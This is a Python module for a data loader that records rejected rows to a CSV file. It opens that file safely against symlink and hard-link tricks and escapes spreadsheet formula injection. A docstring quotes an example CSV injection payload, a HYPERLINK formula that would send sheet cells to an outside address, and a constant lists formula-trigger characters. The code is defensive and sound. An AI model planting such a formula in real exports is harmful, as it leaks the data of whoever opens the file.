"""Rejected rows: what was not loaded, where it was in the source, and why.

A reject is one problem with one field of one row: ``file, line, field, value, reason``,
where ``line`` is the physical line number in the source file with the header as line 1
(the line a record *starts* on, for records spanning several lines). A row with two bad
fields gives two rejects with the same line. The rejects file is UTF-8 CSV (with a byte-order mark, for Excel) written
with the csv module, so hostile values stay quoted; a text cell that a spreadsheet would run as a
formula gets a leading ``'`` (:func:`spreadsheet_safe`), the one change made to what was read.
"""

from __future__ import annotations

import csv
import errno
import os
import stat
from dataclasses import astuple, dataclass
from pathlib import Path
from types import TracebackType
from typing import TextIO

REJECT_COLUMNS = ("file", "line", "field", "value", "reason")
#: UTF-8 with a byte-order mark, which spreadsheets take as "this is UTF-8" (Python's csv and pandas read it
#: with ``utf-8-sig``)
REJECTS_ENCODING = "utf-8-sig"
MAX_VALUE_CHARS = 1000  # a runaway cell must not make the rejects file unreadable
#: what makes Excel or LibreOffice read a CSV cell as a formula (OWASP, "CSV Injection"): ``=``, ``+``,
#: ``-``, ``@``, and a tab, carriage return or line feed before one
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")


def spreadsheet_safe(value: object) -> object:
    """``value`` as a CSV cell a spreadsheet shows as text: a text starting with one of
    :data:`FORMULA_STARTS` gets a leading ``'``, so a firm called ``=HYPERLINK("http://…"&A1,"Click")``
    is not a live formula that sends the sheet's cells to that address when an investigator opens the
    rejects file or a console download. Every such text is changed, also one that reads as a number
    (``-5``, a phone ``+86 10 1234``): which texts a spreadsheet parses as numbers differs by program
    and locale, and a quote on a number written as text is the safe side. Numbers (``int``,
    ``float``) and every other value pass unchanged, so a column of numbers stays numbers."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


@dataclass(frozen=True)
class Reject:
    file: str
    line: int
    field: str
    value: str
    reason: str


def open_for_writing(path: Path) -> int:
    """A descriptor of ``path`` opened empty for writing, never through a symbolic link or into a file
    with another name: the rejects file's default place is the data's folder or the current one, where
    another user could leave ``rejects.csv`` as a link to (or a hard link of) a file of the loading
    user's, which the load would then overwrite. ``O_NOFOLLOW`` refuses a link in the same call that
    opens, so it cannot be swapped in between a check and the open; a second name of the file opened is
    refused before it is emptied, and so is a pipe or a device (``O_NONBLOCK``: a pipe with no reader
    fails instead of hanging the load). Raises :class:`OSError` naming the path."""
    try:
        descriptor = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_NOFOLLOW | os.O_NONBLOCK | os.O_CLOEXEC, 0o666)
    except OSError as error:
        if error.errno == errno.ELOOP and path.is_symlink():
            raise OSError(errno.ELOOP, f"the rejects file {path} is a symbolic link; not writing through it "
                                       "(remove it, or name another file with --rejects)") from None
        # a read-only export folder (a bind mount), where the rejects file goes by default: name the way out
        raise OSError(error.errno, f"cannot write the rejects file {path}: {error.strerror}; name a file in a "
                                   "writable folder with --rejects") from None
    status = os.fstat(descriptor)
    if not stat.S_ISREG(status.st_mode) or status.st_nlink > 1:
        os.close(descriptor)
        raise OSError(errno.EEXIST, f"the rejects file {path} is not a plain file of its own (a device, a pipe "
                                    "or a hard link of another file); not writing to it (remove it, or name "
                                    "another file with --rejects)")
    os.ftruncate(descriptor, 0)
    return descriptor


class RejectLog:
    """Collects rejects in memory and, when given a path, streams them to a CSV file."""

    def __init__(self, path: Path | None = None, keep: bool = True) -> None:
        self.path = path
        self.keep = keep
        self.rejects: list[Reject] = []
        self.count = 0
        self._handle: TextIO | None = None
        self._writer: csv.DictWriter | None = None  # type: ignore[type-arg]

    def __enter__(self) -> RejectLog:
        if self.path is not None:
            self.path.parent.mkdir(parents=True, exist_ok=True)
            # with a byte-order mark: Excel on Chinese Windows reads a CSV without one as GBK, and the
            # operator who loads GBK exports opens the rejects in Excel
            self._handle = open(open_for_writing(self.path), "w", encoding=REJECTS_ENCODING, newline="")
            self._writer = csv.DictWriter(self._handle, fieldnames=REJECT_COLUMNS)
            self._writer.writeheader()
        return self

    def __exit__(self, kind: type[BaseException] | None, error: BaseException | None,
                 trace: TracebackType | None) -> None:
        self.close()

    def close(self) -> None:
        if self._handle is not None:
            self._handle.close()
            self._handle = None

    def add(self, reject: Reject) -> None:
        value = reject.value if len(reject.value) <= MAX_VALUE_CHARS else reject.value[:MAX_VALUE_CHARS] + "…"
        reject = Reject(reject.file, reject.line, reject.field, value, reject.reason)
        self.count += 1
        if self.keep:
            self.rejects.append(reject)
        if self._writer is not None:
            self._writer.writerow({column: spreadsheet_safe(cell)
                                   for column, cell in zip(REJECT_COLUMNS, astuple(reject), strict=True)})

    def extend(self, rejects: list[Reject]) -> None:
        for reject in rejects:
            self.add(reject)


def read_rejects(path: Path) -> list[Reject]:
    """The rejects in a file written by :class:`RejectLog` (for tests and tools), as the file holds them:
    a value a spreadsheet would take for a formula with its leading ``'`` (:func:`spreadsheet_safe`)."""
    with open(path, encoding=REJECTS_ENCODING, newline="") as handle:
        return [Reject(r["file"], int(r["line"]), r["field"], r["value"], r["reason"])
                for r in csv.DictReader(handle)]
